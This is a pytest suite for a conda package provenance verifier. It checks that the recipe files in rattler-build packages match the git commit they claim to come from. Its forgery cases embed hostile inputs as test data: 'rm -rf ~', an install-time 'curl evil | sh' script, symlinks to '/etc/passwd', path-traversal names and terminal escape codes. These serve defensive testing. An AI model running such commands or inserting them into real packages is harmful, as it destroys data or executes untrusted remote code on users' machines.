"""Check 5 with packages that rattler-build really made from commits, and forgeries of them."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from histories import Contents, History, link, script, submodule
from recipe_making import (
    HistoryRepository,
    checked,
    checkout,
    in_subdir,
    one_commit,
    rattler_build,
    repacked,
    stamped,
)

from conda_provenance.errors import PackageError
from conda_provenance.packages.contents import PackageContents, PackageFile
from conda_provenance.verify.checks.recipe_matches import CHECK
from conda_provenance.verify.outcome import Outcome, Result

RECIPE = """\
context:
  name: Hello
  version: "1.0"
package:
  name: ${{ name | lower }}
  version: ${{ version }}
build:
  script: build.sh
"""
FILES: Mapping[str, Contents] = {
    "README.md": "a feedstock\n",
    "LICENSE.txt": "BSD\n",
    "recipe/recipe.yaml": RECIPE,
    "recipe/build.sh": script("mkdir -p $PREFIX/share\necho hi > $PREFIX/share/hi\n"),
    "recipe/bld.bat": "echo hi\n",
    "recipe/patches/fix.patch": "--- a\n+++ b\n",
    "recipe/link.sh": link("build.sh"),
    "recipe/.hidden": "1\n",
}


class Built:
    """A package that was built from a commit, and that commit's repository."""

    def __init__(self, history: History, contents: PackageContents, folder: Path) -> None:
        self.history = history
        self.repository = HistoryRepository(history)
        self.contents = contents
        self.folder = folder
        self._number = 0

    def place(self) -> Path:
        self._number += 1
        return self.folder / str(self._number)

    def forged(self, changes: Mapping[str, Any], **payload: Any) -> PackageContents:
        recipe = {f"info/recipe/{name}": change for name, change in changes.items()}
        return repacked(self.contents, self.place(), recipe, **payload)

    def check(self, contents: PackageContents | None = None, **expected: Any) -> Result:
        return checked(CHECK, contents or self.contents, self.repository, **expected)


Build = Callable[..., Built]


def _build(folder: Path, files: Mapping[str, Contents], recipe: str, **more: Any) -> Built:
    history = one_commit(folder / "repository", files)
    sha = history["first"]
    work = checkout(history, sha, folder / "checkout")
    for name, data in more.pop("untracked", {}).items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_bytes(data)
    packages = rattler_build(work / recipe, folder / "out")
    number = more.pop("number", 0)
    return Built(history, stamped(packages[number], sha), folder / "forged")


@pytest.fixture
def build(tmp_path: Path) -> Build:
    def run(
        files: Mapping[str, Contents], recipe: str = "recipe/recipe.yaml", **more: Any
    ) -> Built:
        return _build(tmp_path, files, recipe, **more)

    return run


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """One package for all forgeries."""
    return _build(tmp_path_factory.mktemp("built"), FILES, "recipe/recipe.yaml")


# --- honest packages ------------------------------------------------------------------------------


def test_an_honest_package_passes_and_no_file_is_fetched(built: Built) -> None:
    built.repository.fetched.clear()
    result = built.check()
    assert result.outcome is Outcome.PASS, result
    assert "were not checked" in result.message
    assert result.facts["folder"] == "recipe"
    assert result.facts["builder"] == "rattler-build"
    assert result.facts["same"] == 5
    assert (result.facts["name"], result.facts["version"]) == ("yes", "yes")
    assert not built.repository.fetched


def test_a_folder_of_many_recipes(build: Build) -> None:
    """bioconda's, whose version folders are packaged with the recipe."""
    files: dict[str, Contents] = {}
    for name in ("bye", "hello", "howdy"):
        files[f"recipes/{name}/recipe.yaml"] = RECIPE.replace("Hello", name)
        files[f"recipes/{name}/build.sh"] = script("mkdir $PREFIX/x; echo hi > $PREFIX/x/hi\n")
        files[f"recipes/{name}/0.9/recipe.yaml"] = RECIPE.replace("1.0", "0.9")
    built = build(files, "recipes/hello/recipe.yaml")
    result = built.check(paths=("recipes/{name}",))
    assert result.outcome is Outcome.PASS, result
    assert result.facts["folder"] == "recipes/hello"

    other = built.check(paths=("packages/{name}",))
    assert other.outcome is Outcome.FAIL
    assert "recipes/hello of that commit, where the policy does not expect it" in other.message


def test_of_equal_recipes_the_one_with_fewest_differences(build: Build) -> None:
    files = {
        **FILES,
        "old/recipe.yaml": RECIPE,
        "old/build.sh": script("other\n"),
        "copy/hello/recipe.yaml": RECIPE,
    }
    result = build(files).check()
    assert result.outcome is Outcome.PASS
    assert result.facts["folder"] == "recipe"
    assert set(result.facts["folders"]) == {"recipe", "old", "copy/hello"}


def test_a_recipe_at_the_top(build: Build) -> None:
    files = {name.removeprefix("recipe/"): each for name, each in FILES.items()}
    result = build(files, "recipe.yaml").check()
    assert result.outcome is Outcome.PASS, result
    assert result.facts["folder"] == ""


def test_several_outputs(build: Build, tmp_path: Path) -> None:
    recipe = (
        'recipe:\n  name: split\n  version: "1.0"\noutputs:\n'
        "  - package: {name: split-base}\n    build: {script: mkdir -p $PREFIX/a}\n"
        "  - package: {name: split-top}\n    build: {script: mkdir -p $PREFIX/b}\n"
    )
    files = {**FILES, "recipe/recipe.yaml": recipe}
    for number in (0, 1):
        built = _build(tmp_path / str(number), files, "recipe/recipe.yaml", number=number)
        result = built.check()
        assert result.outcome is Outcome.PASS, result
        assert (result.facts["name"], result.facts["version"]) == ("yes", "yes")


@pytest.mark.parametrize("own", [False, True])
def test_a_recipe_of_another_name(build: Build, own: bool) -> None:
    """rattler-build renames it, and loses the ``recipe.yaml`` that was there."""
    files = {**FILES, "recipe/other.yaml": RECIPE.replace("1.0", "2.0")}
    if not own:
        del files["recipe/recipe.yaml"]
    result = build(files, "recipe/other.yaml").check()
    assert result.outcome is Outcome.PASS, result
    assert result.facts["recipe"] == "other.yaml"


def test_a_recipe_that_is_a_link(build: Build) -> None:
    """rattler-build packages the link, so the recipe itself is in the commit alone."""
    files = {**FILES, "shared/recipe.yaml": RECIPE, "shared/x.sh": "1\n"}
    built = build({**files, "recipe/recipe.yaml": link("../shared/recipe.yaml")})
    assert built.contents.files["info/recipe/recipe.yaml"].is_link
    result = built.check()
    assert result.outcome is Outcome.PASS, result
    assert (result.facts["name"], result.facts["version"]) == ("yes", "yes")

    outside = PackageFile("info/recipe/recipe.yaml", b"../../shared/recipe.yaml", True)
    assert built.check(built.forged({"recipe.yaml": outside})).outcome is Outcome.FAIL


def test_a_recipe_that_is_a_link_out_of_the_repository(build: Build, tmp_path: Path) -> None:
    (tmp_path / "outside.yaml").write_text(RECIPE)
    built = build({**FILES, "recipe/recipe.yaml": link(str(tmp_path / "outside.yaml"))})
    result = built.check()
    assert result.outcome is Outcome.UNAVAILABLE
    assert "recipe.yaml is a link, to what is not in the commit" in result.message


def test_files_that_rattler_build_overwrites(build: Build) -> None:
    files = {
        **FILES,
        "recipe/variant_config.yaml": "mine: 1\n",
        "recipe/rendered_recipe.yaml": "mine: 1\n",
    }
    assert build(files).check().outcome is Outcome.PASS


def test_what_rattler_build_leaves_out_is_expected_to_be_missing(build: Build) -> None:
    files = {
        **FILES,
        "recipe/.gitignore": "*.log\n!kept.log\n/sub/deep/\n",
        "recipe/.condapackageignore": "notes.txt\n",
        "recipe/build.log": "1\n",
        "recipe/kept.log": "1\n",
        "recipe/notes.txt": "1\n",
        "recipe/sub/.gitignore": "x.txt\n",
        "recipe/sub/x.txt": "1\n",
        "recipe/sub/y.txt": "1\n",
        "recipe/sub/deep/z.txt": "1\n",
        "recipe/sub/.hidden/z.txt": "1\n",
        ".gitignore": "hidden-by-parent\n",
        "recipe/hidden-by-parent": "1\n",
    }
    built = build(files)
    there = {name for name in built.contents.files if name.startswith("info/recipe/")}
    assert not any(name.endswith(("build.log", "x.txt", "z.txt", "notes.txt")) for name in there)
    assert "info/recipe/kept.log" in there
    result = built.check()
    assert result.outcome is Outcome.PASS, result


def test_conda_forge_s_license_and_leftovers(build: Build) -> None:
    left = {
        "recipe/recipe-scripts-license.txt": b"BSD\n",
        "recipe/__pycache__/x.pyc": b"\0",
        "recipe/build.sh~": b"old",
    }
    built = build(FILES, untracked=left)
    result = built.check()
    assert result.outcome is Outcome.PASS, result
    assert result.facts["explained"] == ["recipe-scripts-license.txt"]
    assert result.facts["untracked"] == ["__pycache__/x.pyc", "build.sh~"]
    assert "which nobody committed" in result.message
    strict = built.check(strict_extras=True)
    assert strict.outcome is Outcome.FAIL
    assert not strict.contradicts


@pytest.mark.parametrize("subdir", ["win-64", "noarch"])
def test_windows_line_endings(built: Built, subdir: str) -> None:
    changes: dict[str, Any] = {}
    for name, file in built.contents.files.items():
        if name.startswith("info/recipe/") and not file.is_link:
            data = file.data.replace(b"\n", b"\r\n")
            changes[name.removeprefix("info/recipe/")] = PackageFile(name, data, False, False)
        elif file.is_link:  # git on Windows writes a file with the target.
            changes[name.removeprefix("info/recipe/")] = PackageFile(name, file.data)
    forged = built.forged(changes)
    result = built.check(in_subdir(forged, subdir, built.place()))
    assert result.outcome is Outcome.PASS, result
    assert "line endings" in result.message
    assert "build.sh" in result.facts["line_endings"]

    elsewhere = built.check(built.forged({"patches/fix.patch": b"--- a\r\n+++ b\r\n"}))
    assert elsewhere.outcome is Outcome.UNAVAILABLE
    assert "Only line endings differ, in patches/fix.patch" in elsewhere.message


def test_scripts_for_windows_have_its_line_endings_everywhere(built: Built) -> None:
    """conda-forge's ``.gitattributes`` say so."""
    assert built.check(built.forged({"bld.bat": b"echo hi\r\n"})).outcome is Outcome.PASS


def test_a_repository_with_sha256(tmp_path: Path, built: Built) -> None:
    history = one_commit(tmp_path / "r", FILES, object_format="sha256")
    contents = stamped(Path(built.contents.package.location), history["first"])
    result = checked(CHECK, contents, HistoryRepository(history))
    stamped(Path(built.contents.package.location), built.history["first"])
    assert result.outcome is Outcome.PASS, result


def test_scripts_that_run_at_installation_and_are_the_recipe_s(built: Built) -> None:
    data = built.contents.files["info/recipe/build.sh"].data
    forged = built.forged({}, payload={"bin/.hello-post-link.sh": data})
    result = built.check(forged)
    assert result.outcome is Outcome.PASS, result
    assert result.facts["install_scripts"] == ["bin/.hello-post-link.sh"]


# --- forgeries ------------------------------------------------------------------------------------

FORGERIES: Mapping[str, tuple[Mapping[str, Any], str]] = {
    "recipe edited by one byte": (
        {"recipe.yaml": RECIPE.replace("1.0", "1.1").encode()},
        "The recipe is not in that commit",
    ),
    "build script edited by one byte": (
        {"build.sh": b"mkdir -p $PREFIX/share\necho ho > $PREFIX/share/hi\n"},
        "build.sh differs",
    ),
    "build script swapped": (
        {"build.sh": b"echo hi\n"},
        "build.sh differs",
    ),
    "file added": ({"evil.sh": b"rm -rf ~\n"}, "evil.sh is not in the commit"),
    "hidden file added": ({".evil": b"rm\n"}, ".evil is not in the commit"),
    "file of the repository's top": ({"README.md": b"a feedstock\n"}, "README.md is not in the"),
    "license with more in it": (
        {"recipe-scripts-license.txt": b"BSD\nrm\n"},
        "recipe-scripts-license.txt is not in the commit",
    ),
    "license elsewhere": (
        {"patches/recipe-scripts-license.txt": b"BSD\n"},
        "patches/recipe-scripts-license.txt is not in the commit",
    ),
    "file taken out": ({"patches/fix.patch": None}, "patches/fix.patch is missing"),
    "link out of the folder": (
        {"link.sh": PackageFile("info/recipe/link.sh", b"../../../etc/passwd", True)},
        "link.sh leads elsewhere",
    ),
    "link in place of a file": (
        {"build.sh": PackageFile("info/recipe/build.sh", b"bld.bat", True)},
        "build.sh is a link",
    ),
    "file in place of a link": (
        {"link.sh": PackageFile("info/recipe/link.sh", b"build.sh")},
        "link.sh is a file, where the commit has a link",
    ),
    "made executable": (
        {
            "patches/fix.patch": PackageFile(
                "info/recipe/patches/fix.patch", b"--- a\n+++ b\n", False, True
            )
        },
        "patches/fix.patch is executable",
    ),
    "leftover that is a link": (
        {"x.pyc": PackageFile("info/recipe/x.pyc", b"/etc/passwd", True)},
        "x.pyc is not in the commit",
    ),
    "file below a link": (
        {"link.sh": None, "link.sh/evil.sh": b"rm\n"},
        "link.sh/evil.sh is not in the commit",
    ),
    "path out of the folder": ({"x/../../build.sh": b"rm\n"}, ""),
    "another case": (
        {"BUILD.sh": b"rm\n"},
        "BUILD.sh is not in the commit",
    ),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_forgeries_fail_and_say_where(built: Built, name: str) -> None:
    changes, words = FORGERIES[name]
    if not words:
        with pytest.raises(PackageError, match="lies outside the package"):
            built.forged(changes)
        return

    result = built.check(built.forged(changes))
    assert result.outcome is Outcome.FAIL, result
    assert words in result.message
    assert result.contradicts


def test_the_difference_is_shown_with_v(built: Built) -> None:
    data = built.contents.files["info/recipe/build.sh"].data
    result = built.check(built.forged({"build.sh": data.replace(b"hi >", b"\x1b[2J >")}))
    assert result.detail.splitlines()[:2] == ["--- build.sh (commit)", "+++ build.sh (package)"]
    assert "-echo hi > $PREFIX/share/hi" in result.detail


def test_meta_yaml_without_template_must_be_the_commit_s(built: Built) -> None:
    """Else any rendered recipe could stand beside an honest package's files."""
    rendered = b"# This file created by conda-build 26.7\npackage:\n  name: hello\n"
    changes = {"recipe.yaml": None, "rendered_recipe.yaml": None, "meta.yaml": rendered}
    result = built.check(built.forged(changes))
    assert result.outcome is Outcome.FAIL
    assert "is not in that commit" in result.message


def test_no_original_recipe_is_no_pass(built: Built) -> None:
    result = built.check(built.forged({"recipe.yaml": None, "rendered_recipe.yaml": None}))
    assert result.outcome is Outcome.UNAVAILABLE
    assert "as its author wrote it" in result.message


def test_the_recipe_of_another_package(built: Built) -> None:
    import json

    index = json.loads(built.contents.files["info/index.json"].data)
    for key, value in (("name", "numpy"), ("version", "2.0")):
        forged = json.dumps({**index, key: value}).encode()
        contents = repacked(built.contents, built.place(), {"info/index.json": forged})
        result = built.check(contents)
        assert result.outcome is Outcome.FAIL
        assert f"makes no package {index['name'] if key == 'version' else value}" in result.message


def test_scripts_that_run_at_installation_and_are_not_the_recipe_s(built: Built) -> None:
    for name in ("bin/.hello-post-link.sh", "Scripts/.hello-pre-unlink.bat"):
        result = built.check(built.forged({}, payload={name: b"curl evil | sh\n"}))
        assert result.outcome is Outcome.UNAVAILABLE
        assert f"{name} runs at install, not from the recipe" in result.message


def test_scripts_that_were_not_read_are_no_pass_if_they_are_listed(built: Built) -> None:
    unread = built.contents._replace(install_scripts=None)
    assert built.check(unread).outcome is Outcome.PASS
    assert "scripts that run at install were not looked for" in built.check(unread).message
    files = dict(unread.files)
    listed = b'{"paths": [{"_path": "bin/.hello-post-link.sh"}]}'
    files["info/paths.json"] = PackageFile("info/paths.json", listed)
    result = built.check(unread._replace(files=files))
    assert result.outcome is Outcome.UNAVAILABLE
    assert "was not read" in result.message


def test_oddities_fail(built: Built) -> None:
    odd = built.contents._replace(oddities=("It holds two info/recipe/build.sh.",))
    assert built.check(odd).outcome is Outcome.FAIL


def test_a_recipe_of_another_commit(built: Built, tmp_path: Path) -> None:
    history = built.history.copy(tmp_path / "copy")
    history.commit("second", {"recipe/build.sh": script("rm\n")})
    contents = stamped(Path(built.contents.package.location), history["second"])
    result = checked(CHECK, contents, HistoryRepository(history))
    stamped(Path(built.contents.package.location), built.history["first"])
    assert result.outcome is Outcome.FAIL
    assert "build.sh differs" in result.message


# --- what cannot be told --------------------------------------------------------------------------


def test_a_package_without_a_recipe(built: Built) -> None:
    gone = {
        name.removeprefix("info/recipe/"): None
        for name in built.contents.files
        if name.startswith("info/recipe/")
    }
    assert built.check(built.forged(gone)).outcome is Outcome.NOT_APPLICABLE


def test_a_commit_that_is_not_there(built: Built) -> None:
    missing = stamped(Path(built.contents.package.location), "1" * 40)
    result = checked(CHECK, missing, built.repository)
    stamped(Path(built.contents.package.location), built.history["first"])
    assert result.outcome is Outcome.NOT_APPLICABLE


def test_a_generated_recipe(built: Built) -> None:
    forged = built.forged({"recipe.yaml": b"package: {name: hello, version: '1.0'}\n"})
    assert built.check(forged).outcome is Outcome.FAIL
    assert built.check(forged, generated_recipe=True).outcome is Outcome.UNAVAILABLE


def test_files_of_a_submodule(build: Build) -> None:
    files = {**FILES, "recipe/vendor": submodule("1" * 40), ".gitmodules": "[submodule]\n"}
    built = build(files, untracked={"recipe/vendor/x.sh": b"1\n"})
    result = built.check()
    assert result.outcome is Outcome.UNAVAILABLE
    assert "vendor/x.sh is in a submodule" in result.message


def test_files_that_git_lfs_keeps(build: Build, tmp_path: Path) -> None:
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 3\n"
    built = build({**FILES, "recipe/big.bin": pointer})
    assert built.check().outcome is Outcome.PASS
    result = built.check(built.forged({"big.bin": b"big"}))
    assert result.outcome is Outcome.UNAVAILABLE
    assert "Git LFS" in result.message


def test_what_git_fills_in(build: Build) -> None:
    files = {**FILES, "recipe/x.txt": "1 $Id$ 2\n", ".gitattributes": "x.txt ident\n"}
    built = build(files)
    assert b"$Id: " in built.contents.files["info/recipe/x.txt"].data
    result = built.check()
    assert result.outcome is Outcome.UNAVAILABLE
    assert "x.txt differs where git fills in $Id$" in result.message
    forged = built.forged({"x.txt": b"1 $Id: " + b"1" * 40 + b" $ 3\n"})
    assert built.check(forged).outcome is Outcome.FAIL


@pytest.mark.parametrize("end", [b"\n", b"\r\n"])
def test_what_git_fills_in_where_there_was_another_id(
    built: Built, tmp_path: Path, end: bytes
) -> None:
    files = {**FILES, "recipe/x.txt": b"$Id: 1$ a\n$Id: x.c 1.2 ada $\n"}
    checked_out = b"$Id: " + b"2" * 40 + b" $ a" + end + b"$Id: x.c 1.2 ada $" + end
    result = _at_commit(built, files, tmp_path, {"x.txt": checked_out})
    assert result.outcome is Outcome.UNAVAILABLE, result
    assert "x.txt differs where git fills in $Id$" in result.message


def test_what_git_fills_in_in_many_files(built: Built, tmp_path: Path) -> None:
    names = [f"{number:02}.txt" for number in range(40)]
    files = {**FILES, **{f"recipe/{name}": f"$Id$ {name}\n" for name in names}}
    filled_in = {name: b"$Id: %s $ %s\n" % (b"2" * 40, name.encode()) for name in names}
    result = _at_commit(built, files, tmp_path, filled_in)
    assert result.outcome is Outcome.UNAVAILABLE, result
    forged = {name: data + b"evil\n" for name, data in filled_in.items()}
    assert _at_commit(built, files, tmp_path, forged).outcome is Outcome.FAIL


CHANGING = [
    ("x.bat", "*.bat  working-tree-encoding=UTF-16LE", b"echo 1\n", "echo 1\n".encode("utf-16le")),
    ("x.bin", "# kept elsewhere\n*.bin filter=crypt -text\n", b"\0secret", b"plain"),
    ("x.bin", "[attr]hidden filter=crypt\n*.bin hidden\n", b"\0secret", b"plain"),
]  # fmt: skip


@pytest.mark.parametrize("place", ["", "recipe/", "recipe/sub/"])
@pytest.mark.parametrize(("name", "attributes", "kept", "checked_out"), CHANGING)
def test_files_that_git_changes_when_it_checks_them_out(
    built: Built, tmp_path: Path, place: str, name: str, attributes: str, kept: bytes,
    checked_out: bytes,
) -> None:  # fmt: skip
    path = f"sub/{name}"
    files = {**FILES, f"recipe/{path}": kept, f"{place}.gitattributes": attributes}
    result = _at_commit(built, files, tmp_path, {path: checked_out})
    assert result.outcome is Outcome.UNAVAILABLE, result
    assert f"{path} differs, and git may change it when it checks it out" in result.message
    # What is missing or too much is no matter of attributes.
    result = _at_commit(built, files, tmp_path, {path: checked_out, "evil.sh": b"1\n"})
    assert result.outcome is Outcome.FAIL


@pytest.mark.parametrize(
    "attributes",
    [
        {".gitattributes": "# ident\n*.txt text eol=lf -ident -filter\n* ident export-subst\n"},
        {"other/.gitattributes": "* ident\n", "recipe/other/.gitattributes": "* filter=x\n"},
    ],
)
def test_attributes_that_change_no_file_of_the_recipe(
    built: Built, tmp_path: Path, attributes: Mapping[str, Contents]
) -> None:
    files = {**FILES, "recipe/sub/x.txt": "1\n", **attributes}
    result = _at_commit(built, files, tmp_path, {"sub/x.txt": b"2\n"})
    assert result.outcome is Outcome.FAIL, result
    assert "sub/x.txt differs" in result.message


def test_attributes_are_fetched_only_where_something_differs(build: Build) -> None:
    built = build({**FILES, ".gitattributes": "* filter=crypt\n"})
    assert built.check().outcome is Outcome.PASS
    assert not built.repository.fetched


def test_a_recipe_that_git_changes_when_it_checks_it_out(build: Build) -> None:
    recipe = f"# $Id$\n{RECIPE}"
    result = build(
        {**FILES, "recipe/recipe.yaml": recipe, ".gitattributes": "*.yaml ident"}
    ).check()
    assert result.outcome is Outcome.UNAVAILABLE, result
    assert "git may change" in result.message


def _at_commit(
    built: Built, files: Mapping[str, Contents], folder: Path, changes: Mapping[str, Any]
) -> Result:
    """The recipe in the package is that of this commit, but for these changes."""
    number = len(list(folder.iterdir()))
    history = one_commit(folder / str(number), files)
    contents = stamped(Path(built.forged(changes).package.location), history["first"])
    return checked(CHECK, contents, HistoryRepository(history))


NFC, NFD = "é.txt", "e\u0301.txt"


def test_names_that_an_old_macos_decomposes(built: Built, tmp_path: Path) -> None:
    files = {**FILES, f"recipe/é/{NFC}": "1\n"}
    result = _at_commit(built, files, tmp_path, {f"e\u0301/{NFD}": b"1\n"})
    assert result.outcome is Outcome.PASS, result
    assert result.facts["composed"] == [f"é/{NFC}"]
    result = _at_commit(built, files, tmp_path, {f"e\u0301/{NFD}": b"2\n"})
    assert result.outcome is Outcome.FAIL
    assert f"é/{NFC} differs" in result.message


@pytest.mark.parametrize(
    ("tracked", "packaged"), [((NFC, NFD), (NFC,)), ((NFC, NFD), (NFD,)), ((NFC,), (NFC, NFD))]
)
def test_names_that_fall_together(
    built: Built, tmp_path: Path, tracked: tuple[str, ...], packaged: tuple[str, ...]
) -> None:
    files = {**FILES, **{f"recipe/{name}": "1\n" for name in tracked}}
    result = _at_commit(built, files, tmp_path, dict.fromkeys(packaged, b"1\n"))
    assert result.outcome is Outcome.UNAVAILABLE, result
    assert "falls together with another name" in result.message


def test_names_that_could_fall_together_and_did_not(built: Built, tmp_path: Path) -> None:
    files = {**FILES, f"recipe/{NFC}": "1\n", f"recipe/{NFD}": "2\n"}
    result = _at_commit(built, files, tmp_path, {NFC: b"1\n", NFD: b"2\n"})
    assert result.outcome is Outcome.PASS, result
    assert "composed" not in result.facts


def test_a_name_that_only_a_builder_could_tell(build: Build) -> None:
    recipe = RECIPE.replace("name: Hello", 'name: ${{ "hello" if unix else "hi" }}')
    result = build({**FILES, "recipe/recipe.yaml": recipe}).check()
    assert result.outcome is Outcome.PASS
    assert "of this name cannot be told without rendering" in result.message


def test_names_of_strangers_are_escaped(built: Built) -> None:
    result = built.check(built.forged({"\x1b[2J.sh": b"x"}))
    assert "\x1b" not in result.message
    assert r"\x1b[2J.sh is not in the commit" in result.message


def test_git_agrees_about_what_was_built(built: Built) -> None:
    """The stand-in asks the real git, whose ids the comparison rests on."""
    data = built.contents.files["info/recipe/build.sh"].data
    shown = subprocess.run(
        ["git", "show", f"{built.history['first']}:recipe/build.sh"],
        cwd=built.history.folder, capture_output=True, check=True,
    ).stdout  # fmt: skip
    assert shown == data


@pytest.mark.parametrize(
    "text",
    [
        "on: push\njobs:\n  build:\n    name: openssl\n",
        "package:\n  individually: true\n",
        "",
        "a: [\n",
        "# " + "x" * 200_000 + "\nname: openssl\n",
    ],
    ids=["a CI's", "another tool's", "empty", "no YAML", "large"],
)
def test_a_file_that_names_no_package_is_no_recipe(build: Build, text: str) -> None:
    """A package of any name could call it its recipe, which rattler-build may rename."""
    made = build({**FILES, "conf/other.yml": text})
    others = {name: None for name in made.contents.files if name.startswith("info/recipe/")}
    del others["info/recipe/rendered_recipe.yaml"]
    forged = repacked(
        made.contents, made.place(), {**others, "info/recipe/recipe.yaml": text.encode()}
    )
    result = made.check(forged)
    assert result.outcome is Outcome.UNAVAILABLE, result.message
    assert "conf/other.yml" in result.message
    assert "names no package" in result.message


def test_a_link_is_as_good_a_recipe_as_what_it_leads_to(build: Build) -> None:
    files = {**FILES, "conf/other.yml": link("../recipe/recipe.yaml"), "conf/x.yml": link("ci.yml")}
    made = build({**files, "conf/ci.yml": "on: push\n"})
    recipe = PackageFile("info/recipe/recipe.yaml", b"../recipe/recipe.yaml", is_link=True)
    others: dict[str, Any] = {
        name: None for name in made.contents.files if name.startswith("info/recipe/")
    }
    del others["info/recipe/rendered_recipe.yaml"]
    index = made.contents.files["info/index.json"].data
    forged = {
        **others,
        "info/recipe/recipe.yaml": recipe,
        "info/recipe/ci.yml": b"on: push\n",
        "info/recipe/x.yml": PackageFile("info/recipe/x.yml", b"ci.yml", is_link=True),
    }
    result = made.check(repacked(made.contents, made.place(), forged))
    assert result.facts["name"] == "yes", result.message

    forged["info/index.json"] = index.replace(b'"hello"', b'"openssl"')
    result = made.check(repacked(made.contents, made.place(), forged))
    assert (result.outcome, result.contradicts) == (Outcome.FAIL, True), result.message


@pytest.mark.parametrize("name", ["info/paths.json", "info/files"])
@pytest.mark.parametrize(
    "path", ["site-packages/a/../../../../bin/.hello-post-link.sh", "/etc/x", "a\\..\\b"]
)
def test_a_listed_path_that_leads_elsewhere(build: Build, name: str, path: str) -> None:
    """Where it is installed, and as what, depends on the links on the way."""
    made = build(FILES)
    listed = {"paths": [{"_path": path}], "paths_version": 1}
    text = json.dumps(listed) if name.endswith(".json") else f"{path}\n"
    result = made.check(repacked(made.contents, made.place(), {name: text.encode()}))
    assert result.outcome is Outcome.UNAVAILABLE, result.message
    assert "leads elsewhere" in result.message


def test_a_listed_script_that_windows_knows_by_another_name(build: Build) -> None:
    made = build(FILES)
    listed = {"info/files": b"Scripts\\.hello-post-link.bat\n"}
    contents = repacked(made.contents, made.place(), listed)
    result = made.check(contents._replace(install_scripts=None))
    assert result.outcome is Outcome.UNAVAILABLE, result.message
    assert "runs at install" in result.message
